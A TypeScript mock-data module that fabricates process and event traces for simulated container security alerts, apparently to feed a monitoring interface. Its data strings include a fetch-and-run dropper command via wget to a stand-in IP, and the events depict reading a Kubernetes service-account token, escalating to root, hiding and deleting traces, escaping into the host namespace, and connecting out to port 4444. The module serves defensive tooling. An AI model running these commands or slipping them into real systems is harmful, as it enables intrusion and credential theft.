// What the make-believe containers did before their alerts.

import type { AlertTrace, Finding, TraceKind, TraceProcess } from '../src/api/types';
import { hex } from './world';

type Deed = [before: number, who: number, kind: TraceKind, what: string, count?: number];

/** The trace of an alert that watches processes. */
export function traceOf(finding: Finding, command: string, user: string): AlertTrace {
  const end = Date.parse(finding.last_seen);
  const at = (seconds: number) => new Date(end - seconds * 1000).toISOString();
  const base = 20_000 + (Number.parseInt(hex(finding.id, 4), 16) % 9000);
  const name = (text: string) => text.split(' ')[0]?.split('/').at(-1) ?? text;
  const process = (
    number: number,
    parent: number | undefined,
    command: string,
    started: number,
    more: Partial<TraceProcess> = {},
  ): TraceProcess => ({
    pid: base + number,
    parent: parent === undefined ? 0 : base + parent,
    name: name(command),
    path: command.startsWith('/') ? (command.split(' ')[0] ?? '') : `/usr/bin/${name(command)}`,
    command,
    user,
    started: at(started),
    in_container: true,
    is_subject: false,
    ...more,
  });
  const shim = process(
    1,
    undefined,
    '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io',
    260_000,
    {
      in_container: false,
      user: 'root',
    },
  );
  const processes = [
    shim,
    process(40, 1, '/usr/local/bin/server --listen :8080 --config /etc/app/config.yaml', 259_990),
    process(52, 40, '/usr/local/bin/server --worker 1', 259_980),
    process(53, 40, '/usr/local/bin/server --worker 2', 259_980),
    process(
      610,
      52,
      "sh -c 'wget -q -O /tmp/.x http://203.0.113.9/a; chmod +x /tmp/.x; /tmp/.x'",
      96,
    ),
    process(611, 610, 'wget -q -O /tmp/.x http://203.0.113.9/a', 95.4, { ended: at(91.2) }),
    process(612, 610, 'chmod +x /tmp/.x', 91, { ended: at(90.9) }),
    process(640, 610, command, 1.4, { is_subject: true }),
  ];
  const deeds: Deed[] = [
    [118, 52, 'accept', '10.42.3.17:51234'],
    [117.9, 52, 'read', '/etc/app/config.yaml', 14],
    [112, 52, 'read', '/app/templates/index.html', 212],
    [96, 610, 'execute', "sh -c 'wget -q -O /tmp/.x …'"],
    [95.4, 611, 'execute', '/usr/bin/wget -q -O /tmp/.x http://203.0.113.9/a'],
    [95.3, 611, 'resolve', 'files.example-cdn.test'],
    [95.1, 611, 'connect', '203.0.113.9:80'],
    [94.8, 611, 'write', '/tmp/.x', 38],
    [91.2, 611, 'exit', 'with 0'],
    [91, 612, 'execute', '/usr/bin/chmod +x /tmp/.x'],
    [91, 612, 'permission', '/tmp/.x to 755'],
    [90.9, 612, 'exit', 'with 0'],
    [61, 53, 'read', '/app/templates/index.html', 96],
    [12.2, 610, 'read', '/var/run/secrets/kubernetes.io/serviceaccount/token', 2],
    [9, 610, 'privilege', 'setuid 0'],
    [6.5, 610, 'rename', '/tmp/.x to /dev/shm/kworker'],
    [6.1, 610, 'delete', '/root/.ash_history'],
    [4.4, 610, 'namespace', 'setns mnt of pid 1'],
    [3, 610, 'mount', '/proc on /mnt'],
    [1.4, 640, 'execute', command],
    [0.31, 640, 'connect', '198.51.100.66:4444'],
    [0.1, 640, 'signal', 'SIGTERM to 53'],
    [0, 640, 'alert', finding.title ?? finding.rule],
  ];
  return {
    processes,
    events: deeds.map(([before, who, kind, what, count]) => ({
      time: at(before),
      pid: base + who,
      kind,
      what,
      count: count ?? 1,
    })),
    omitted: 41,
  };
}
